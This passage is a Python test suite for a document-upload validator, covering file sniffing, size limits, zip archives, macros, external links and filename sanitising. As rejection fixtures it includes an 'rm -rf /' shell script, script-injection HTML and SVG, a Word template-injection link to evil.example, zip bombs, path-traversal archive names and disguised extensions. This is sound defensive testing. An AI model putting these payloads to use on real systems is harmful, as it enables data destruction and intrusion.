"""The upload checks, against real (small, hand-built) files of every kind we accept or refuse.

Nothing here touches the database: ``assessments.uploads`` is pure.
"""

import hashlib
import io
import random
import struct
import unicodedata
import warnings
import zipfile
import zlib

import openpyxl
import pytest

from assessments.uploads import (
    MAX_UPLOAD_BYTES,
    CheckedUpload,
    UploadRejected,
    check_upload,
    sniff,
)

MB = 1024 * 1024
WRONG_TYPE = (
    "The selected file must be a PDF, Word document (DOCX), Excel spreadsheet (XLSX), "
    "OpenDocument text (ODT) or spreadsheet (ODS), PNG or JPEG"
)
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- Sample files ------------------------------------------------------------------------------


def make_pdf(text: str = "Data security policy") -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


def make_png() -> bytes:
    """A 1×1 red RGB PNG."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def make_jpeg() -> bytes:
    """A 1×1 mid-grey baseline JPEG: one Huffman code each for "DC difference 0" and "end of
    block", so the whole scan is two zero bits padded with ones."""
    one_code = bytes([1] + [0] * 15) + b"\x00"
    return (
        b"\xff\xd8"
        + _jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
        + _jpeg_segment(0xC0, b"\x08" + struct.pack(">HH", 1, 1) + b"\x01\x01\x11\x00")
        + _jpeg_segment(0xC4, b"\x00" + one_code)
        + _jpeg_segment(0xC4, b"\x10" + one_code)
        + _jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"
        + b"\xff\xd9"
    )


CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Staff have completed data security training.</w:t></w:r></w:p>"
    "</w:body></w:document>"
)


def make_zip(members: list[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for position, (name, content) in enumerate(members):
            method = zipfile.ZIP_STORED if stored_first and position == 0 else None
            archive.writestr(name, content, compress_type=method)
    return buffer.getvalue()


def docx_members(*extra: tuple[str, bytes | str]) -> list[tuple[str, bytes | str]]:
    return [
        ("[Content_Types].xml", CONTENT_TYPES_DOCX),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", DOCUMENT_XML),
        *extra,
    ]


def make_docx(*extra: tuple[str, bytes | str]) -> bytes:
    return make_zip(docx_members(*extra))


def make_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Asset", "Owner"])
    workbook.active.append(["Care records system", "Registered manager"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.2">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)


def odf_members(mimetype: str) -> list[tuple[str, bytes | str]]:
    return [
        ("mimetype", mimetype),
        ("content.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-content/>'),
        ("META-INF/manifest.xml", MANIFEST.format(mimetype=mimetype)),
    ]


def make_odf(mimetype: str) -> bytes:
    return make_zip(odf_members(mimetype), stored_first=True)


def make_odt() -> bytes:
    return make_odf("application/vnd.oasis.opendocument.text")


def make_ods() -> bytes:
    return make_odf("application/vnd.oasis.opendocument.spreadsheet")


def zip_of_zeros(member_sizes: list[int], *, first: list | None = None) -> bytes:
    """A DOCX-looking archive with members of zeros, compressed as they are written, in 1 MB
    pieces so the test never holds the uncompressed data."""
    buffer = io.BytesIO()
    zeros = bytes(MB)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in first if first is not None else docx_members():
            archive.writestr(name, content)
        for number, size in enumerate(member_sizes):
            with archive.open(f"word/media/padding{number}.bin", "w") as member:
                for start in range(0, size, MB):
                    member.write(zeros[: min(MB, size - start)])
    return buffer.getvalue()


def central_directory(data: bytes) -> list[int]:
    """Offsets of the central directory entries (read properly, not by searching, since the
    signature could occur inside compressed data)."""
    end = data.rindex(b"PK\x05\x06")
    count, _, start = struct.unpack("<HII", data[end + 10 : end + 20])
    offsets, position = [], start
    for _ in range(count):
        offsets.append(position)
        name_length, extra_length, comment_length = struct.unpack(
            "<HHH", data[position + 28 : position + 34]
        )
        position += 46 + name_length + extra_length + comment_length
    return offsets


def patched(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    out = bytearray(data)
    struct.pack_into(fmt, out, offset, value)
    return bytes(out)


def check(data: bytes, name: str = "evidence", **kwargs) -> CheckedUpload:
    return check_upload(name=name, stream=io.BytesIO(data), **kwargs)


def rejection(data: bytes, name: str = "evidence", **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check(data, name, **kwargs)
    return caught.value


# --- Accepted files ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "name", "content_type", "extension", "label"),
    [
        (make_pdf, "Data security policy.pdf", "application/pdf", "pdf", "PDF"),
        (make_png, "Certificate.png", "image/png", "png", "PNG image"),
        (make_jpeg, "Training photo.jpg", "image/jpeg", "jpg", "JPEG image"),
        (make_jpeg, "Training photo.JPEG", "image/jpeg", "jpeg", "JPEG image"),
        (make_docx, "Breach log.docx", DOCX_TYPE, "docx", "Word document (DOCX)"),
        (make_xlsx, "Asset register.xlsx", XLSX_TYPE, "xlsx", "Excel spreadsheet (XLSX)"),
        (
            make_odt,
            "Policy.odt",
            "application/vnd.oasis.opendocument.text",
            "odt",
            "OpenDocument text document (ODT)",
        ),
        (
            make_ods,
            "Register.ods",
            "application/vnd.oasis.opendocument.spreadsheet",
            "ods",
            "OpenDocument spreadsheet (ODS)",
        ),
    ],
)
def test_each_allowed_type_is_accepted(make, name, content_type, extension, label):
    data = make()
    checked = check(data, name, declared_size=len(data))
    assert checked == CheckedUpload(
        safe_name=name,
        content_type=content_type,
        extension=extension,
        kind_label=label,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )


def test_images_from_a_real_encoder_are_accepted():
    # Pillow arrives with WeasyPrint; the hand-made images above do not depend on it.
    image_module = pytest.importorskip("PIL.Image")
    image = image_module.new("RGB", (40, 20), (0, 94, 184))
    for file_format, content_type in [("PNG", "image/png"), ("JPEG", "image/jpeg")]:
        buffer = io.BytesIO()
        image.save(buffer, file_format)
        checked = check(buffer.getvalue(), f"scan.{file_format.lower()}")
        assert checked.content_type == content_type


def test_hand_made_images_are_real_images():
    image_module = pytest.importorskip("PIL.Image")
    for data, size in [(make_png(), (1, 1)), (make_jpeg(), (1, 1))]:
        with image_module.open(io.BytesIO(data)) as image:
            image.load()
            assert image.size == size


def test_the_stream_is_left_where_it_started_for_saving():
    stream = io.BytesIO(b"junk" + make_pdf())
    stream.seek(4)
    checked = check_upload(name="policy.pdf", stream=stream)
    assert stream.tell() == 4
    assert hashlib.sha256(stream.read()).hexdigest() == checked.sha256


def test_sniff():
    assert sniff(make_pdf()[:64]) == "pdf"
    assert sniff(make_png()[:64]) == "png"
    assert sniff(make_jpeg()[:64]) == "jpeg"
    assert sniff(make_docx()[:64]) == "zip"
    assert sniff(b"MZ\x90\x00") is None
    assert sniff(b"") is None
    assert sniff(b"\x89PNG\r\n\x1a\n") is None  # a signature alone, without the header chunk


# --- Refused contents --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200), id="windows-program"),
        pytest.param(b"\x7fELF\x02\x01\x01\x00" + bytes(200), id="linux-program"),
        pytest.param(b"#!/bin/sh\nrm -rf /\n", id="script"),
        pytest.param(
            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", id="html"
        ),
        pytest.param(
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(1)</script></svg>",
            id="svg",
        ),
        pytest.param(b"Just some notes about our data security.\n", id="plain-text"),
        pytest.param(b"\xef\xbb\xbf%PDF-1.7\n", id="pdf-after-a-byte-order-mark"),
        pytest.param(b"GIF89a\x01\x00\x01\x00", id="gif"),
        pytest.param(make_zip([("readme.txt", "hello")]), id="plain-zip"),
        pytest.param(b"PK\x05\x06" + bytes(18), id="empty-zip"),
    ],
)
def test_other_contents_are_refused(data):
    refused = rejection(data, "policy.pdf")
    assert refused.code == "wrong_type"
    assert refused.message == WRONG_TYPE


def test_a_renamed_program_is_refused_whatever_its_name():
    program = b"MZ\x90\x00" + bytes(500) + b"This program cannot be run in DOS mode"
    for name in ["policy.pdf", "policy", "policy.exe", "scan.jpg"]:
        assert rejection(program, name).code == "wrong_type"


def test_the_pdf_header_must_be_at_the_very_start():
    # Readers accept "%PDF-" anywhere in the first 1024 bytes; we do not, so an HTML page that
    # is also a PDF cannot get in.
    polyglot = b"<html><script>alert(1)</script>" + b" " * 100 + make_pdf()
    assert rejection(polyglot, "policy.pdf").code == "wrong_type"


def test_old_office_files_get_a_specific_message():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le")
    refused = rejection(ole, "policy.doc")
    assert refused.code == "old_office_format"
    assert refused.message == (
        "The selected file must be saved as a Word document (DOCX) or Excel spreadsheet (XLSX), "
        "not the older DOC or XLS format"
    )


def test_a_password_protected_office_file_is_refused():
    # Office wraps an encrypted DOCX/XLSX in an OLE file with an "EncryptedPackage" stream.
    encrypted = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + "EncryptionInfo".encode("utf-16-le")
        + "EncryptedPackage".encode("utf-16-le")
    )
    refused = rejection(encrypted, "register.xlsx")
    assert refused.code == "password_protected"
    assert refused.message == "The selected file must not be password protected"


@pytest.mark.parametrize(
    ("make", "name", "message"),
    [
        (make_png, "policy.pdf", "The selected file's name says .pdf but it is a PNG image"),
        (make_pdf, "scan.png", "The selected file's name says .png but it is a PDF"),
        (
            make_xlsx,
            "report.docx",
            "The selected file's name says .docx but it is an Excel spreadsheet (XLSX)",
        ),
        (
            make_docx,
            "policy.odt",
            "The selected file's name says .odt but it is a Word document (DOCX)",
        ),
        (
            make_odt,
            "policy.doc",
            "The selected file's name says .doc but it is an OpenDocument text document (ODT)",
        ),
        (make_pdf, "invoice.pdf.exe", "The selected file's name says .exe but it is a PDF"),
        (make_jpeg, "photo.PNG", "The selected file's name says .png but it is a JPEG image"),
    ],
)
def test_an_extension_that_does_not_match_the_content_is_refused(make, name, message):
    refused = rejection(make(), name)
    assert refused.code == "name_mismatch"
    assert refused.message == message


def test_a_bidirectional_override_cannot_disguise_the_extension():
    # Displayed as "invoiceexe.pdf", but it ends in .exe.
    assert rejection(make_pdf(), "invoice\u202efdp.exe").code == "name_mismatch"


def test_a_nul_byte_cannot_hide_the_real_extension():
    # C code would stop reading at the NUL and see "policy.pdf"; the name really ends in .exe.
    assert rejection(make_pdf(), "policy.pdf\x00.exe").code == "name_mismatch"


def test_an_empty_member_name_is_refused():
    # zipfile will not write an empty name, so write "Z" and then give its byte to the comment
    # (central directory) and the extra field (local header): every offset stays right.
    data = make_docx(("Z", "x"))
    entry = central_directory(data)[-1]
    local_header = struct.unpack("<I", data[entry + 42 : entry + 46])[0]
    data = patched(data, entry + 28, "<H", 0)
    data = patched(data, entry + 32, "<H", 1)
    data = patched(data, local_header + 26, "<H", 0)
    data = patched(data, local_header + 28, "<H", 1)
    assert [info.filename for info in zipfile.ZipFile(io.BytesIO(data)).infolist()][-1] == ""
    assert rejection(data, "policy.docx").code == "unsafe_archive"


def test_an_empty_file_is_refused():
    refused = rejection(b"", "policy.pdf")
    assert refused.code == "empty"
    assert refused.message == "The selected file is empty"


# --- Size --------------------------------------------------------------------------------------


class MeteredStream:
    """A PDF-looking stream of ``size`` bytes (or endless) that fails the test if anything asks
    it for more than ``MAX_UPLOAD_BYTES + 1`` bytes in total, or for everything at once."""

    def __init__(self, size: int | None):
        self.size = size
        self.requested = 0
        self.delivered = 0

    def read(self, count: int = -1) -> bytes:
        assert count is not None, "the whole stream was asked for"
        assert count >= 0, "the whole stream was asked for"
        self.requested += count
        assert self.requested <= MAX_UPLOAD_BYTES + 1, "read past the limit"
        remaining = count if self.size is None else min(count, self.size - self.delivered)
        start = self.delivered
        self.delivered += remaining
        if start == 0 and remaining:
            return (b"%PDF-1.7\n" + b" " * remaining)[:remaining]
        return b" " * remaining


def test_exactly_ten_megabytes_is_accepted():
    stream = MeteredStream(MAX_UPLOAD_BYTES)
    checked = check_upload(name="big.pdf", stream=stream, declared_size=MAX_UPLOAD_BYTES)
    assert checked.size == MAX_UPLOAD_BYTES == 10 * MB
    assert checked.content_type == "application/pdf"


def test_one_byte_over_is_refused_without_reading_further():
    stream = MeteredStream(MAX_UPLOAD_BYTES + 1)
    refused = rejection_from_stream(stream)
    assert refused.code == "too_large"
    assert refused.message == "The selected file must be smaller than 10 MB"
    assert stream.delivered == MAX_UPLOAD_BYTES + 1


def test_an_endless_stream_is_refused_after_the_limit():
    stream = MeteredStream(None)
    assert rejection_from_stream(stream).code == "too_large"
    assert stream.requested == MAX_UPLOAD_BYTES + 1


def test_a_declared_size_over_the_limit_is_refused_before_reading():
    class Untouchable:
        def read(self, count=-1):
            raise AssertionError("read")

    with pytest.raises(UploadRejected) as caught:
        check_upload(name="big.pdf", stream=Untouchable(), declared_size=MAX_UPLOAD_BYTES + 1)
    assert caught.value.code == "too_large"


def test_a_declared_size_that_understates_is_not_trusted():
    stream = MeteredStream(MAX_UPLOAD_BYTES + 1)
    assert rejection_from_stream(stream, declared_size=100).code == "too_large"


def test_a_stream_returning_more_than_asked_cannot_pass_the_limit():
    class Greedy:
        def read(self, count=-1):
            return b"%PDF-1.7\n" + b" " * (count * 2)

    with pytest.raises(UploadRejected) as caught:
        check_upload(name="big.pdf", stream=Greedy())
    assert caught.value.code == "too_large"


def test_short_reads_are_put_together():
    class Trickle(io.RawIOBase):
        def __init__(self, data):
            self.data = data

        def readable(self):
            return True

        def read(self, count=-1):
            piece, self.data = self.data[:7], self.data[7:]
            return piece

    data = make_docx()
    checked = check_upload(name="log.docx", stream=Trickle(data))
    assert checked.sha256 == hashlib.sha256(data).hexdigest()


def rejection_from_stream(stream, **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check_upload(name="big.pdf", stream=stream, **kwargs)
    return caught.value


# --- Archives ----------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused():
    # 200 MB of zeros compresses to about 200 KB: well under the upload limit.
    bomb = zip_of_zeros([200 * MB])
    assert len(bomb) < MB
    refused = rejection(bomb, "policy.docx")
    assert refused.code == "expands_too_much"
    assert refused.message == (
        "The selected file is too large to be checked once it is uncompressed"
    )


def test_one_member_with_an_absurd_ratio_is_refused():
    # 20 MB is allowed in total, but not as 20 KB that expands a thousandfold.
    assert rejection(zip_of_zeros([20 * MB]), "policy.docx").code == "expands_too_much"


def test_members_adding_up_to_too_much_are_refused():
    # Each 9 MB member is under the ratio check's threshold; together they are over 100 MB.
    assert rejection(zip_of_zeros([9 * MB] * 12), "policy.docx").code == "expands_too_much"


def test_a_reasonable_amount_of_compressible_data_is_accepted():
    checked = check(zip_of_zeros([9 * MB]), "policy.docx")
    assert checked.content_type == DOCX_TYPE


def test_a_member_lying_about_its_size_is_caught():
    # Shrink the uncompressed size in the central directory: the "small" member really holds
    # 9 MB, so reading stops early and the checksum does not match.
    data = zip_of_zeros([9 * MB])
    last_entry = central_directory(data)[-1]
    assert rejection(patched(data, last_entry + 24, "<I", 1000), "x.docx").code == "damaged"


def test_too_many_members_are_refused():
    members = docx_members(*[(f"word/media/part{number}.xml", "") for number in range(2_000)])
    refused = rejection(make_zip(members), "policy.docx")
    assert refused.code == "too_many_parts"
    assert refused.message == "The selected file contains too many parts to be checked"


def test_an_encrypted_member_is_refused():
    data = make_docx()
    entry = central_directory(data)[1]
    local_header = struct.unpack("<I", data[entry + 42 : entry + 46])[0]
    flags = struct.unpack("<H", data[entry + 8 : entry + 10])[0]
    data = patched(data, entry + 8, "<H", flags | 0x1)
    data = patched(data, local_header + 6, "<H", flags | 0x1)
    refused = rejection(data, "policy.docx")
    assert refused.code == "password_protected"


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda data: data[: len(data) // 2], id="cut-in-half"),
        pytest.param(lambda data: data[:-10], id="end-record-cut"),
        pytest.param(
            lambda data: data[:200] + bytes(b ^ 0xFF for b in data[200:260]) + data[260:],
            id="bytes-flipped",
        ),
        pytest.param(lambda data: b"PK\x03\x04" + bytes(len(data) - 4), id="header-then-nothing"),
    ],
)
def test_a_damaged_archive_is_refused_cleanly(damage):
    refused = rejection(damage(make_docx()), "policy.docx")
    assert refused.code == "damaged"
    assert refused.message == (
        "The selected file could not be opened – it may be damaged, so save it again and upload "
        "the new copy"
    )


def test_a_damaged_member_is_caught_even_when_the_directory_is_intact():
    data = make_docx()
    offsets = central_directory(data)
    entry = offsets[2]  # word/document.xml
    local_header = struct.unpack("<I", data[entry + 42 : entry + 46])[0]
    name_length, extra_length = struct.unpack("<HH", data[local_header + 26 : local_header + 30])
    start = local_header + 30 + name_length + extra_length
    broken = data[:start] + bytes(b ^ 0x55 for b in data[start : start + 20]) + data[start + 20 :]
    assert rejection(broken, "policy.docx").code == "damaged"


def test_word_and_excel_in_one_file_is_refused():
    both = make_docx(("xl/workbook.xml", "<workbook/>"))
    assert rejection(both, "policy.docx").code == "wrong_type"


def test_a_powerpoint_is_refused():
    slides = make_zip(
        [("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<presentation/>")]
    )
    assert rejection(slides, "slides.pptx").code == "wrong_type"


def test_macros_are_refused():
    with_project = make_docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100)))
    refused = rejection(with_project, "policy.docx")
    assert refused.code == "macros"
    assert refused.message == "The selected file must not contain macros"

    macro_types = CONTENT_TYPES_DOCX.replace("document.main+xml", "document.macroEnabled.main+xml")
    renamed_docm = make_zip([("[Content_Types].xml", macro_types), *docx_members()[1:]])
    assert rejection(renamed_docm, "policy.docx").code == "macros"


RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
RELATIONSHIP_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SETTINGS_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<w:attachedTemplate r:id="rId1"/></w:settings>'
)


def relationship(kind: str, target: str, mode: str = "", number: int = 1) -> str:
    mode_attribute = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<Relationship Id="rId{number}" '
        f'Type="{RELATIONSHIP_TYPE}{kind}" Target="{target}"{mode_attribute}/>'
    )


def test_a_template_attached_from_a_web_address_is_refused():
    # Template injection: Word fetches the template when the file is opened and runs its macros.
    injected = make_docx(
        ("word/settings.xml", SETTINGS_XML),
        (
            "word/_rels/settings.xml.rels",
            RELS.format(
                relationship(
                    "attachedTemplate", "https://evil.example/policy.dotm", mode="External"
                )
            ),
        ),
    )
    refused = rejection(injected, "policy.docx")
    assert refused.code == "external_content"
    assert refused.message == (
        "The selected file must not load anything from outside it, such as a linked template, "
        "picture or document. Save it as a PDF and upload that"
    )
    # The mode written another way, or on a network share, is the same thing.
    for target, mode in [
        ("file://fileserver/share/t.dotm", "external"),
        ("\\\\srv\\t", "External"),
    ]:
        other = make_docx(
            (
                "word/_rels/settings.xml.rels",
                RELS.format(relationship("attachedTemplate", target, mode)),
            )
        )
        assert rejection(other, "policy.docx").code == "external_content"


@pytest.mark.parametrize("kind", ["image", "oleObject", "subDocument", "frame", "externalLinkPath"])
def test_other_links_to_outside_content_are_refused(kind):
    linked = make_docx(
        (
            "word/_rels/document.xml.rels",
            RELS.format(relationship(kind, "http://tracker.example/pixel.png", mode="External")),
        )
    )
    assert rejection(linked, "policy.docx").code in ("external_content", "embedded_objects")


def test_hyperlinks_and_internal_pictures_are_fine():
    linked = make_docx(
        (
            "word/_rels/document.xml.rels",
            RELS.format(
                relationship("hyperlink", "https://digital.nhs.uk/", mode="External", number=1)
                + relationship("image", "media/image1.png", number=2)
                + relationship("styles", "styles.xml", number=3)
            ),
        ),
        ("word/media/image1.png", make_png()),
        ("word/styles.xml", "<w:styles/>"),
    )
    assert check(linked, "policy.docx").kind_label == "Word document (DOCX)"


@pytest.mark.parametrize(
    "member",
    [
        "word/embeddings/oleObject1.bin",
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        "word/embeddings/Package.exe",
        "word/activeX/activeX1.bin",
        "word/oleObject1.bin",
        "WORD/Embeddings/thing.bin",
    ],
)
def test_embedded_objects_are_refused(member):
    refused = rejection(make_docx((member, b"\xd0\xcf\x11\xe0" + bytes(100))), "policy.docx")
    assert refused.code == "embedded_objects"
    assert refused.message == (
        "The selected file must not contain embedded objects, such as another file or a program "
        "inside it. Save it as a PDF and upload that"
    )


def test_embedded_objects_in_a_spreadsheet_are_refused_too():
    workbook = make_xlsx()
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with_object = make_zip([*members, ("xl/embeddings/oleObject1.bin", b"\xd0\xcf" + bytes(50))])
    assert rejection(with_object, "register.xlsx").code == "embedded_objects"
    linked = make_zip(
        [
            *members,
            (
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                RELS.format(relationship("externalLinkPath", "file:///C:/x.xlsx", "External")),
            ),
        ]
    )
    assert rejection(linked, "register.xlsx").code == "external_content"


@pytest.mark.parametrize("kind", ["oleObject", "package", "control"])
def test_an_embedding_relationship_is_refused_wherever_its_part_is_kept(kind):
    hidden = make_docx(
        ("word/_rels/document.xml.rels", RELS.format(relationship(kind, "media/innocent.png"))),
        ("word/media/innocent.png", b"\xd0\xcf\x11\xe0" + bytes(100)),
    )
    assert rejection(hidden, "policy.docx").code == "embedded_objects"


def test_a_broken_relationships_part_is_refused_as_damaged():
    broken = make_docx(("word/_rels/document.xml.rels", "<Relationships><Relationship"))
    assert rejection(broken, "policy.docx").code == "damaged"


@pytest.mark.parametrize("member", ["../../evil.sh", "/etc/cron.d/evil", "word/../../evil", "C:/x"])
def test_member_paths_leaving_the_archive_are_refused(member):
    assert rejection(make_docx((member, "x")), "policy.docx").code == "unsafe_archive"


def test_duplicate_member_names_are_refused():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate
        twice = make_docx(("word/document.xml", "<other/>"))
    assert rejection(twice, "policy.docx").code == "unsafe_archive"
    differently_cased = make_docx(("WORD/Document.xml", "<other/>"))
    assert rejection(differently_cased, "policy.docx").code == "unsafe_archive"


def test_opendocument_needs_its_mimetype_first_and_stored():
    mimetype = "application/vnd.oasis.opendocument.text"
    compressed = make_zip(odf_members(mimetype))
    assert rejection(compressed, "policy.odt").code == "wrong_type"
    members = odf_members(mimetype)
    not_first = make_zip([members[1], members[0], members[2]], stored_first=True)
    assert rejection(not_first, "policy.odt").code == "wrong_type"
    no_manifest = make_zip(members[:2], stored_first=True)
    assert rejection(no_manifest, "policy.odt").code == "wrong_type"


def test_other_opendocument_types_are_refused():
    presentation = make_odf("application/vnd.oasis.opendocument.presentation")
    assert rejection(presentation, "slides.odp").code == "wrong_type"


def test_other_compression_methods_are_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        for name, content in docx_members():
            archive.writestr(name, content)
    assert rejection(buffer.getvalue(), "policy.docx").code == "damaged"


# --- Names -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe_name"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.ini.pdf", "boot.ini.pdf"),
        ("C:\\x\\y.pdf", "y.pdf"),
        ("C:y.pdf", "y.pdf"),
        ("\\\\server\\share\\policy.pdf", "policy.pdf"),
        ("/var/www/../policy.pdf", "policy.pdf"),
        ("report\x00.pdf", "report.pdf"),
        ("Annual\nreport\r\n2025.pdf", "Annual report 2025.pdf"),
        ("\x1b[31mred\x07.pdf", "[31mred.pdf"),
        (".hidden.pdf", "hidden.pdf"),
        ("...pdf", "document.pdf"),
        (".pdf", "document.pdf"),
        ("..", "document.pdf"),
        ("../", "document.pdf"),
        ("", "document.pdf"),
        ("   ", "document.pdf"),
        ("report", "report.pdf"),
        ("report.pdf.", "report.pdf"),
        ("report .pdf", "report.pdf"),
        ("Policy v1.2", "Policy v1.2.pdf"),
        ("Minutes 12.03.2025", "Minutes 12.03.2025.pdf"),
        ('what?*<>|":now.pdf', 'what"now.pdf'),
        # A browser's form encoding of a quote and a line break; nothing else is decoded.
        ("Policy %22final%22.pdf", 'Policy "final".pdf'),
        ("Two%0Alines%0d.pdf", "Two lines.pdf"),
        ("100%20 sure.pdf", "100%20 sure.pdf"),
        ("  lots \t of   space  .pdf", "lots of space.pdf"),
        ("REPORT.PDF", "REPORT.PDF"),
        ("Politique de sécurité.pdf", "Politique de sécurité.pdf"),
        (unicodedata.normalize("NFD", "Politique de sécurité.pdf"), "Politique de sécurité.pdf"),
        ("Polityka bezpieczeństwa.pdf", "Polityka bezpieczeństwa.pdf"),
        ("سياسة الأمن.pdf", "سياسة الأمن.pdf"),
        ("データ保護方針.pdf", "データ保護方針.pdf"),
        ("Team 👩\u200d⚕️ rota.pdf", "Team 👩\u200d⚕️ rota.pdf"),
        ("zero\u200bwidth\ufeff.pdf", "zerowidth.pdf"),
        ("line\u2028separator.pdf", "line separator.pdf"),
        ("no\xa0break\u3000space.pdf", "no break space.pdf"),
        ("bad\udc80surrogate.pdf", "badsurrogate.pdf"),
    ],
)
def test_names_are_made_safe(name, safe_name):
    checked = check(make_pdf(), name)
    assert checked.safe_name == safe_name
    assert checked.extension == "pdf"


def test_long_names_are_shortened_keeping_the_extension():
    checked = check(make_pdf(), "a" * 300 + ".pdf")
    assert checked.safe_name == "a" * 116 + ".pdf"
    assert len(check(make_docx(), "é" * 300 + ".docx").safe_name) == 120
    assert check(make_pdf(), "b" * 300).safe_name == "b" * 116 + ".pdf"
    # Cutting must not leave a trailing dot or space before the extension.
    assert check(make_pdf(), "c" * 115 + " d" * 10 + ".pdf").safe_name == "c" * 115 + ".pdf"


def test_a_jpeg_without_an_extension_gets_jpg():
    checked = check(make_jpeg(), "IMG_0042")
    assert (checked.safe_name, checked.extension) == ("IMG_0042.jpg", "jpg")


# --- Whatever comes in, the only failure is UploadRejected ------------------------------------

SIGNATURES = [
    b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    b"\xff\xd8\xff",
    b"PK\x03\x04",
    b"PK\x05\x06",
